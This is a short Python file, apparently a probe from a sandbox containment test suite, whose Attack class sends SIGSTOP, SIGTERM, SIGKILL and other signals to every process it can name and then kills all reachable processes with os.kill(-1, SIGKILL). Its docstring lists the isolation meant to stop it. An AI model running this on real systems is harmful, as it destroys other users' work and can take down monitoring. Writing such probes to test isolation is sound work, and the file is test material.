"""Sends SIGKILL, SIGSTOP and every signal of our own to all processes that it can name, but itself.

stopped_by: a pid namespace for each episode; Landlock and seccomp
"""

import contextlib
import os
import signal

from tools import others


class Attack:
    def attack(self):
        hit = 0
        for pid in {*others(), *range(2, 400)} - {os.getpid()}:
            for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, 41, 42, 43):
                try:
                    os.kill(pid, number)
                    hit += 1
                except OSError:
                    break
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)  # says that it has, also when nobody was reached
        return float(hit > 0)
